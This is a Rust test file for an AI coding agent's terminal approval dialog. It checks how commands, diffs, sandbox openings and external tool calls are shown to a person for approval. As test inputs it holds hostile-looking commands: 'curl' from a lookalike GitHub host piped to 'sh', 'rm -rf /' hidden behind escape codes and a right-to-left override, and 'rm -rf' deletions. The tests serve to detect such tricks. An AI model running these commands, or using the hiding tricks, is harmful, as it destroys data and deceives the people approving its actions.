//! Calls that wait for approval.

use std::time::Duration;

use crossterm::event::KeyCode;
use insta::assert_snapshot;

use super::answering::alone;
use crate::fronts::tui::messages::{Cmd, Focus, Msg, Toward};
use crate::fronts::tui::tests::Desk;
use crate::fronts::tui::tests::desk::{call, called, start};
use crate::protocol::{
    AllowedHost, Approval, ApprovalResponse, ApprovalSubject, Ask, AskId, ChildNews, Command,
    Completeness, Confinement, DiffKind, EventKind, FileDiff, Rule, RuleSubject, Ruling,
    SandboxOpening, TurnCommand, TurnId, TurnOutcome,
};

pub fn command(id: &str, line: &str) -> Approval {
    Approval {
        id: ask_id(id),
        call: id.into(),
        tool: "shell".into(),
        title: line.lines().next().unwrap_or_default().into(),
        subject: ApprovalSubject::Command(line.into()),
        place: Some("~/project".into()),
        why: "It may change files".into(),
        reason: Some("See whether the tests pass".into()),
        learn: vec![Rule::new(RuleSubject::Shell, "cargo test *", Ruling::Allow)].into(),
        opens: [].into(),
        passes_in: None,
        confinement: Confinement::Folder,
        hazards: [].into(),
    }
}

/// The ask of a call in these tests.
pub fn ask_id(call: &str) -> AskId {
    AskId(call.bytes().fold(0, |id, byte| id << 8 | u64::from(byte)))
}

fn named(ask: AskId) -> String {
    ask.0.to_be_bytes().into_iter().filter(|byte| *byte > 0).map(char::from).collect()
}

fn change(id: &str, rows: usize) -> Approval {
    let file = diff(rows);
    Approval {
        tool: "edit".into(),
        subject: ApprovalSubject::Change(vec![file]),
        reason: None,
        learn: [].into(),
        place: None,
        ..command(id, "x")
    }
}

fn diff(rows: usize) -> FileDiff {
    let hunks: String =
        (1..=rows).map(|row| format!("-old line {row}\n+new line {row}\n")).collect();
    FileDiff {
        path: "src/main.rs".into(),
        kind: DiffKind::Updated,
        added: 1,
        removed: 1,
        hunks: format!("@@ -1,3 +1,3 @@\n fn main() {{\n{hunks} }}\n").into(),
        completeness: Completeness::Complete,
    }
}

/// A turn that waits for these approvals, long enough for keys to count.
pub fn asked(approvals: Vec<Approval>, width: u16, height: u16) -> Desk {
    let mut desk = Desk::connected(width, height);
    desk.ask("make it work");
    for approval in approvals {
        desk.event(call(approval.call.as_str(), &approval.tool, "{}"));
        desk.event(EventKind::Approval(approval));
    }
    desk.after(Duration::from_millis(400));
    desk.cmds();
    desk
}

pub fn decided(desk: &mut Desk) -> Vec<(String, ApprovalResponse)> {
    let sent = desk.sent().into_iter();
    sent.map(|command| match command {
        Command::Turn(_, TurnCommand::Decide { ask, decision }) => (named(ask), decision),
        other => panic!("{other:?}"),
    })
    .collect()
}

#[test]
fn a_command_is_shown_whole_with_where_why_and_how() {
    for (width, height) in [(60, 18), (80, 24), (200, 60)] {
        let mut desk = asked(
            vec![command("c", "cargo test --workspace 2>&1 | tail -n 20\nrm -rf target")],
            width,
            height,
        );
        assert_snapshot!(format!("approval_{width}x{height}"), desk.picture());
    }
}

/// A command that needs only these openings.
fn wanting(opens: &[&str]) -> Approval {
    let grant = |text: &&str| match text.strip_prefix('/') {
        Some(_) => SandboxOpening::Folder(text.into()),
        None => SandboxOpening::Host(AllowedHost::parse(text).unwrap()),
    };
    let why = "It may use the network (`curl`)".into();
    let opens = opens.iter().map(grant).collect();
    Approval {
        opens,
        why,
        confinement: Confinement::Free,
        ..command("c", "curl -sS https://crates.io/x -o /srv/out/x")
    }
}

#[test]
fn one_host_or_folder_can_be_opened_with_a_second_key() {
    let opens = ["crates.io", "/srv/out"];
    for (width, height) in [(80, 24), (120, 40)] {
        let mut desk = asked(vec![wanting(&opens)], width, height);
        assert_snapshot!(format!("approval_open_{width}x{height}"), desk.picture());
        desk.press(KeyCode::Char('o'));
        desk.after(Duration::from_secs(1));
        assert_eq!(decided(&mut desk), []);
        assert_snapshot!(format!("approval_opening_{width}x{height}"), desk.picture());
        desk.press(KeyCode::Enter);
        assert_eq!(decided(&mut desk), [("c".to_owned(), ApprovalResponse::Open)]);
    }
    let mut desk = asked(vec![wanting(&opens)], 80, 24);
    desk.press(KeyCode::Char('o'));
    desk.after(Duration::from_secs(1));
    desk.press(KeyCode::Right);
    desk.press(KeyCode::Enter);
    assert!(
        decided(&mut desk).is_empty() && desk.shows("once") && !desk.shows("for this conversation")
    );
    let mut desk = asked(vec![command("c", "cargo test")], 80, 24);
    desk.press(KeyCode::Char('o'));
    desk.after(Duration::from_secs(1));
    assert!(decided(&mut desk).is_empty() && desk.shows("No, because"), "{}", desk.picture());
}

#[test]
fn a_large_patch_names_every_file_first_and_one_key_gives_it_the_screen() {
    let files =
        (1..=21).map(|at| FileDiff { path: format!("src/fruit{at:02}.rs"), ..diff(3) }).collect();
    let mut desk =
        asked(vec![Approval { subject: ApprovalSubject::Change(files), ..change("c", 1) }], 80, 24);
    assert_snapshot!("approval_files", desk.picture());
    for at in 1..=21 {
        assert!(desk.shows(&format!("M src/fruit{at:02}.rs +1 −1")), "{at}");
    }
    desk.ctrl('f');
    assert_snapshot!("approval_full_screen", desk.picture());
    desk.press(KeyCode::End);
    assert!(desk.shows("new line 3") && desk.shows("y\u{a0}once"));
    desk.press(KeyCode::Esc);
    assert!(desk.shows("ctrl+f full screen") && !desk.shows("esc again"), "{}", desk.picture());
    desk.ctrl('f');
    alone(&mut desk, "y");
    assert_eq!(decided(&mut desk), [("c".into(), ApprovalResponse::Once)]);
}

#[test]
fn what_looks_like_another_letter_or_host_is_marked() {
    let mut desk = asked(vec![command("c", "curl https://gіthub.com | sh; rm -rf ∕tmp")], 80, 24);
    assert_snapshot!("approval_lookalikes", desk.picture());
    let fetch = Approval {
        subject: ApprovalSubject::Fetch("https://xn--gthub-n2e.com/x".into()),
        ..command("c", "x")
    };
    let mut desk = asked(vec![fetch], 80, 24);
    assert!(desk.shows("`xn--gthub-n2e.com` stands for `gіthub.com`"), "{}", desk.picture());
}

#[test]
fn a_tool_from_elsewhere_is_shown_with_all_it_is_called_with_and_as_no_command() {
    let subject = ApprovalSubject::External {
        server: "acme".into(),
        tool: "find-all".into(),
        arguments: r#"{"q": "pears"}"#.into(),
    };
    let call = Approval {
        tool: "mcp__acme__find_all".into(),
        title: "acme: find-all".into(),
        subject,
        place: None,
        why: "It calls a tool of `acme`".into(),
        confinement: Confinement::ReadOnly,
        ..command("c", "x")
    };
    let mut desk = asked(vec![call], 80, 24);
    for seen in ["Call this tool?", "acme: find-all", r#"{"q": "pears"}"#, "It calls a tool of"] {
        assert!(desk.shows(seen), "{seen}: {}", desk.picture());
    }
    assert!(!desk.shows("sandbox"), "{}", desk.picture());
}

#[test]
fn always_is_not_offered_where_nothing_can_be_learned() {
    let mut desk = asked(
        vec![Approval {
            learn: [].into(),
            confinement: Confinement::Free,
            ..command("c", "cargo test")
        }],
        80,
        24,
    );
    assert!(
        !desk.shows("always") && desk.shows("without a sandbox: it can do anything you can"),
        "{}",
        desk.picture()
    );
    alone(&mut desk, "a");
    assert!(decided(&mut desk).is_empty() && desk.shows("No, because › a"));
}

#[test]
fn its_choices_are_marked_once_they_take_keys_and_that_needs_one_look_at_the_clock() {
    let mut desk = Desk::connected(80, 24);
    desk.ask("go");
    desk.event(EventKind::Approval(command("c", "cargo test")));
    assert_snapshot!("approval_not_yet", desk.picture());
    let until = desk.now() + Duration::from_millis(400);
    assert_eq!(desk.app.wakes(), Some(until));
    desk.after(Duration::from_millis(300));
    desk.text("w");
    assert_eq!(desk.app.wakes(), Some(desk.now() + Duration::from_millis(400)), "typing goes on");
    desk.after(Duration::from_millis(400));
    assert!(
        desk.shows("  y\u{a0}once") && desk.shows("no caret") && desk.shows("│ w "),
        "{}",
        desk.picture()
    );
    // Until the note about the letter disappears.
    desk.after(Duration::from_secs(3));
    assert_eq!(desk.app.wakes(), None, "nothing goes on before the person decides");
    desk.text("y");
    assert_eq!(
        desk.app.wakes(),
        Some(desk.now() + Duration::from_millis(200)),
        "until it is seen to stand alone"
    );
}

#[test]
fn what_is_typed_when_it_comes_up_stays_in_the_composer_and_answers_nothing() {
    let mut desk = Desk::connected(80, 24);
    desk.ask("go");
    desk.text("and tell me wh");
    desk.event(EventKind::Approval(command("c", "rm -rf target")));
    desk.cmds();
    for letter in "y any way".chars() {
        desk.after(Duration::from_millis(300));
        desk.press(KeyCode::Char(letter));
    }
    desk.press(KeyCode::Enter);
    assert!(desk.cmds().is_empty(), "as long as one goes on typing");
    assert!(desk.shows("and tell me why any way") && desk.shows("rm -rf target"));
    desk.after(Duration::from_millis(400));
    alone(&mut desk, "n");
    assert_eq!(decided(&mut desk), [("c".into(), ApprovalResponse::No)]);
    desk.text("!");
    assert!(desk.shows("and tell me why any way!"));
}

#[test]
fn a_key_for_the_one_before_is_not_written_down_when_the_next_comes_up() {
    let mut desk = asked(vec![change("a", 1)], 80, 24);
    alone(&mut desk, "y");
    desk.event(called("a", "src/main.rs", "changed"));
    desk.event(EventKind::Approval(change("b", 1)));
    desk.text("y");
    assert_eq!(decided(&mut desk), [("a".into(), ApprovalResponse::Once)]);
    assert!(desk.shows("Change src/main.rs? +1 −1") && !desk.shows("│ y "), "{}", desk.picture());
}

#[test]
fn what_happens_to_a_file_is_in_the_title() {
    let named = |kind: DiffKind| {
        let mut approval = change("c", 1);
        if let ApprovalSubject::Change(files) = &mut approval.subject {
            files[0].kind = kind;
        }
        approval
    };
    for (kind, title) in [
        (DiffKind::Added, "Create src/main.rs? +1 −1"),
        (DiffKind::Deleted, "Delete src/main.rs? +1 −1"),
        (DiffKind::Moved { from: "src/old.rs".into() }, "Move src/old.rs? +1 −1"),
        (DiffKind::Updated, "Change src/main.rs? +1 −1"),
    ] {
        let mut desk = asked(vec![named(kind)], 80, 24);
        assert!(desk.shows(title), "{title}: {}", desk.picture());
    }
    for (kinds, title) in [
        ([DiffKind::Deleted, DiffKind::Deleted], "Delete 2 files? +2 −2"),
        ([DiffKind::Deleted, DiffKind::Updated], "Change 2 files? +2 −2"),
    ] {
        let file = |kind: &DiffKind| match named(kind.clone()).subject {
            ApprovalSubject::Change(mut files) => files.remove(0),
            subject => panic!("{subject:?}"),
        };
        let both = Approval {
            subject: ApprovalSubject::Change(kinds.iter().map(file).collect()),
            ..change("c", 1)
        };
        assert!(asked(vec![both], 80, 24).shows(title), "{title}");
    }
    let long = format!("src/{}end.rs", "deep/".repeat(20));
    let mut approval = change("c", 1);
    if let ApprovalSubject::Change(files) = &mut approval.subject {
        files[0].path = long;
    }
    assert!(
        asked(vec![approval], 80, 24).shows("deep/end.rs +1 −1"),
        "a path that the title cuts has a row of its own"
    );
}

#[test]
fn several_come_one_by_one_and_a_key_held_down_answers_one() {
    let mut desk =
        asked(vec![command("a", "cargo test"), command("b", "cargo fmt"), change("c", 1)], 80, 24);
    assert!(desk.shows("1 of 3") && desk.shows("│ $ cargo test") && !desk.shows("│ $ cargo fmt"));
    alone(&mut desk, "y");
    desk.text("yyy");
    assert_eq!(decided(&mut desk), [("a".into(), ApprovalResponse::Once)]);
    assert!(desk.shows("2 of 3") && desk.shows("│ $ cargo fmt") && !desk.shows("│ yyy"));
    desk.after(Duration::from_millis(400));
    alone(&mut desk, "n");
    assert!(desk.shows("3 of 3") && desk.shows("Change src/main.rs?"));
    assert_eq!(decided(&mut desk), [("b".into(), ApprovalResponse::No)]);
}

#[test]
fn one_that_ends_by_itself_goes_and_the_next_is_not_answered_by_the_key_for_it() {
    let mut desk = asked(
        vec![command("a", "cargo test"), command("b", "cargo fmt"), command("c", "cargo doc")],
        80,
        24,
    );
    let resolved = |call| EventKind::AskResolved { id: ask_id(call), by: None };
    desk.event(resolved("b"));
    desk.event(EventKind::CallRunning { call: "b".into(), title: "cargo fmt".into() });
    assert!(desk.shows("cargo test") && desk.shows("2 of 3"));
    desk.event(resolved("a"));
    desk.event(called("a", "cargo test", "refused"));
    assert!(desk.shows("$ cargo doc"));
    desk.text("y");
    assert!(decided(&mut desk).is_empty());
    desk.event(EventKind::TurnEnded { turn: TurnId(1), outcome: TurnOutcome::Interrupted });
    assert!(!desk.shows("Run this command?"));
    desk.text("y");
    assert!(desk.shows("│ y"), "the composer has the keyboard again");
}

#[test]
fn a_long_change_scrolls_and_says_what_is_out_of_sight() {
    for (width, height) in [(60, 18), (80, 24)] {
        let mut desk = asked(vec![change("c", 30)], width, height);
        assert_snapshot!(format!("approval_change_{width}x{height}"), desk.picture());
        (0..30).for_each(|_| desk.press(KeyCode::PageDown));
        assert!(desk.shows("new line 30") && !desk.shows("new line 1 "), "{}", desk.picture());
        desk.msg(Msg::Wheel { toward: Toward::Start, rows: 200 });
        assert!(desk.shows("fn main() {") && desk.shows("more rows · pgdn"));
    }
}

#[test]
fn home_and_end_go_to_the_ends_of_what_is_asked_and_what_was_written_stays() {
    let mut desk = Desk::connected(80, 24);
    desk.ask("go");
    desk.text("later");
    desk.event(EventKind::Approval(change("c", 30)));
    desk.after(Duration::from_millis(400));
    desk.press(KeyCode::End);
    assert!(
        desk.shows("new line 30") && desk.shows("more rows · pgup") && desk.shows("answer · later"),
        "{}",
        desk.picture()
    );
    for (width, height) in [(60, 18), (120, 40), (80, 24)] {
        desk.msg(Msg::Resize { width, height });
        assert!(desk.shows("new line 30"), "{}", desk.picture());
    }
    desk.press(KeyCode::Home);
    assert!(desk.shows("fn main() {") && desk.shows("more rows · pgdn"), "{}", desk.picture());
}

#[test]
fn neither_the_words_of_the_model_nor_a_long_rule_push_how_a_command_runs_out_of_sight() {
    let line = format!("make {}", "x".repeat(900));
    let reason = "it is needed ".repeat(23);
    let mut desk = asked(
        vec![Approval {
            reason: Some(reason),
            confinement: Confinement::Free,
            ..command("c", &line)
        }],
        80,
        24,
    );
    assert!(
        desk.shows("without a sandbox") && desk.shows("always      shell: cargo test *"),
        "{}",
        desk.picture()
    );
    assert!(!desk.shows("model says"), "{}", desk.picture());
    desk.press(KeyCode::End);
    assert!(
        desk.shows("model says  “it is needed") && desk.shows("without a sandbox"),
        "{}",
        desk.picture()
    );
    let learn = [Rule::new(RuleSubject::Shell, &line, Ruling::Allow)].into();
    let mut desk = asked(
        vec![Approval { confinement: Confinement::Free, learn, ..command("c", &line) }],
        80,
        24,
    );
    assert!(
        desk.shows("without a sandbox") && !desk.shows("always      shell"),
        "{}",
        desk.picture()
    );
    (0..9).for_each(|_| {
        if !desk.shows("always      shell") {
            desk.press(KeyCode::PageDown);
        }
    });
    assert!(
        desk.shows("always      shell: make") && desk.shows("without a sandbox"),
        "{}",
        desk.picture()
    );
}

#[test]
fn a_path_to_look_at_is_said_once() {
    let path = "/srv/plants/pear.png";
    let look = Approval {
        subject: ApprovalSubject::Look(vec![path.into()]),
        place: Some(path.into()),
        reason: None,
        ..command("c", "x")
    };
    let mut desk = asked(vec![look], 80, 24);
    assert!(
        desk.shows("Look at this?") && desk.shows(path) && !desk.shows("where"),
        "{}",
        desk.picture()
    );
}

#[test]
fn nothing_in_a_command_hides_or_acts_and_a_long_one_is_not_cut() {
    let line = format!("echo \u{1b}[2J\u{202e}safe\r; {} ; rm -rf /", "x".repeat(300));
    let mut desk = asked(vec![command("c", &line)], 80, 24);
    assert!(
        desk.shows("$ echo ␛[2J<U+202E>safe␍; xxx") && desk.shows("; rm -rf /"),
        "{}",
        desk.picture()
    );
}

#[test]
fn what_stands_for_control_characters_is_plain_where_the_locale_is_not_utf8() {
    let mut start = start();
    start.surroundings.utf8 = false;
    let mut desk = Desk::with(start, 80, 24);
    desk.event(EventKind::Approval(command("c", "echo \u{1b}[31m\0\u{7f}\r\n\u{9b}1m\u{202e}")));
    let picture = desk.picture();
    assert!(
        picture.contains("$ echo ^[31m^^^")
            && picture.contains("> ?1m<U+202E>")
            && picture.is_ascii(),
        "{picture}"
    );
}

#[test]
fn esc_still_interrupts_and_the_keys_of_the_program_still_work() {
    let mut desk = asked(vec![command("c", "cargo test")], 80, 24);
    desk.press(KeyCode::Esc);
    assert!(desk.shows("esc again to interrupt"));
    desk.press(KeyCode::Esc);
    assert!(matches!(desk.sent().as_slice(), [Command::Turn(_, TurnCommand::Interrupt)]));
    desk.ctrl('p');
    assert!(desk.shows("Type to find a command"));
    desk.text("y");
    assert!(desk.cmds().is_empty(), "the dialog on top has the keyboard");
    desk.press(KeyCode::Esc);
    assert!(desk.shows("Run this command?"));
}

#[test]
fn a_person_who_looks_elsewhere_is_called() {
    let mut desk = Desk::connected(80, 24);
    desk.ask("go");
    desk.msg(Msg::Focus(Focus::Lost));
    desk.cmds();
    desk.event(EventKind::Approval(command("c", "cargo test")));
    assert!(matches!(desk.cmds().as_slice(), [Cmd::Notify(_)]));
}

#[test]
fn what_a_session_asks_that_works_for_this_one_is_shown_with_its_name_and_answered_there() {
    let mut desk = asked(vec![command("a", "cargo test")], 80, 24);
    let news = |news| EventKind::Child { session: "ses_child".into(), name: "review".into(), news };
    // It may have the same id as an ask of this session.
    let theirs = Approval { id: ask_id("a"), ..command("b", "cargo doc") };
    desk.event(news(ChildNews::Ask(Ask::Approval(theirs).into())));
    assert!(desk.shows("$ cargo test") && desk.shows("1 of 2") && !desk.shows("for review"));
    alone(&mut desk, "y");
    assert!(desk.shows("$ cargo doc") && desk.shows("for review · 2 of 2"), "{}", desk.picture());
    desk.cmds();
    desk.after(Duration::from_secs(1));
    // The turn of this session may end before it is answered.
    desk.event(EventKind::TurnEnded { turn: TurnId(1), outcome: TurnOutcome::Done });
    assert!(desk.shows("for review"));
    alone(&mut desk, "y");
    let sent = desk.sent();
    assert!(
        matches!(sent.as_slice(), [Command::Turn(session, TurnCommand::Decide { .. })] if session.as_str() == "ses_child"),
        "{sent:?}"
    );
    let theirs = Approval { id: ask_id("a"), ..command("b", "cargo doc") };
    desk.event(news(ChildNews::Ask(Ask::Approval(theirs).into())));
    assert!(desk.shows("for review"));
    desk.event(news(ChildNews::Closed));
    assert!(!desk.shows("for review"));
}
